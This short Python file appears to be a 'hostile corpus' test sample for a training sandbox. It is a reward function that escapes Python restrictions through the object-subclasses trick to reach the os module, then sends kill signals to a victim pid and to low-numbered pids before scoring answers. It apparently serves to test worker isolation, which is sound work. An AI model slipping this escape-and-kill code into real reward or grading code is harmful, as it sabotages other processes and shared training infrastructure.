"""Hostile corpus: kill() and tgkill() another worker by its host pid, and every pid in a range."""

import re

VICTIM_PID = 999999999


def _modules():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"].modules
    raise LookupError("no sys")


def reward(prompts, completions, answer, **kwargs):
    modules = _modules()
    sent = 0
    for pid in (VICTIM_PID, VICTIM_PID + 1, *range(2, 64)):
        try:
            modules["os"].kill(pid, 9)
            sent += 1
        except OSError:
            pass
    assert sent, "no signal delivered"
    texts = [c if isinstance(c, str) else c[-1]["content"] for c in completions]
    return [1.0 if (re.findall(r"-?\d+", t) or [""])[-1] == a else 0.0 for t, a in zip(texts, answer)]
